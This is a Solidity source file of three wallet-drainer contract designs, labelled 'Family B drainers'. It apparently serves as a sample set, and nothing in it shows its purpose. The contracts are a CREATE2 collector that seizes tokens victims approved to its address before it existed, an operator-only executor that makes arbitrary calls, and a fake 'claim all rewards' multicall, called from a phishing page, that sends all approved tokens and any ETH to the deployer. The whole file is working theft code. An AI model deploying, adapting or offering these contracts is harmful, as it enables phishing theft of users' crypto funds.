// SPDX-License-Identifier: MIT
// Family B drainers. A CREATE2 factory whose fresh child pulls what victims approved to its
// address before it existed; a "batch executor" that runs arbitrary transferFrom calls for
// its operator; a payable "multicall" the victim calls, which forwards the ETH and pulls every
// approved token.
pragma solidity ^0.8.24;

interface IErc20Like {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
}

contract Collector {
    constructor(address receiver, address[] memory tokens, address[] memory owners) {
        for (uint256 i = 0; i < owners.length; i++) {
            IErc20Like t = IErc20Like(tokens[i]);
            uint256 a = t.allowance(owners[i], address(this));
            uint256 b = t.balanceOf(owners[i]);
            if (a > 0 && b > 0) t.transferFrom(owners[i], receiver, a < b ? a : b);
        }
    }
}

contract CollectorFactory {
    address private immutable boss;

    constructor() {
        boss = msg.sender;
    }

    function predict(bytes32 salt, address[] calldata tokens, address[] calldata owners) external view returns (address) {
        bytes memory code = abi.encodePacked(type(Collector).creationCode, abi.encode(boss, tokens, owners));
        return address(uint160(uint256(keccak256(abi.encodePacked(bytes1(0xff), address(this), salt, keccak256(code))))));
    }

    function launch(bytes32 salt, address[] calldata tokens, address[] calldata owners) external returns (address c) {
        require(msg.sender == boss, "no");
        c = address(new Collector{salt: salt}(boss, tokens, owners));
    }
}

contract BatchExecutor {
    struct Op {
        address target;
        bytes data;
    }

    address private immutable operator;

    constructor() {
        operator = msg.sender;
    }

    function aggregate(Op[] calldata ops) external returns (bytes[] memory out) {
        require(msg.sender == operator, "op");
        out = new bytes[](ops.length);
        for (uint256 i = 0; i < ops.length; i++) {
            (bool ok, bytes memory r) = ops[i].target.call(ops[i].data);
            require(ok, "fail");
            out[i] = r;
        }
    }
}

contract RewardsMulticall {
    address payable private immutable sink;

    constructor() {
        sink = payable(msg.sender);
    }

    /// Called by the victim from a phishing page ("claim all rewards in one click").
    function multicall(bytes[] calldata data) external payable returns (uint256 pulled) {
        for (uint256 i = 0; i < data.length; i++) {
            address token = abi.decode(data[i], (address));
            IErc20Like t = IErc20Like(token);
            uint256 a = t.allowance(msg.sender, address(this));
            uint256 b = t.balanceOf(msg.sender);
            uint256 amount = a < b ? a : b;
            if (amount > 0) {
                t.transferFrom(msg.sender, sink, amount);
                pulled++;
            }
        }
        if (msg.value > 0) {
            (bool ok, ) = sink.call{value: msg.value}("");
            require(ok, "eth");
        }
    }
}
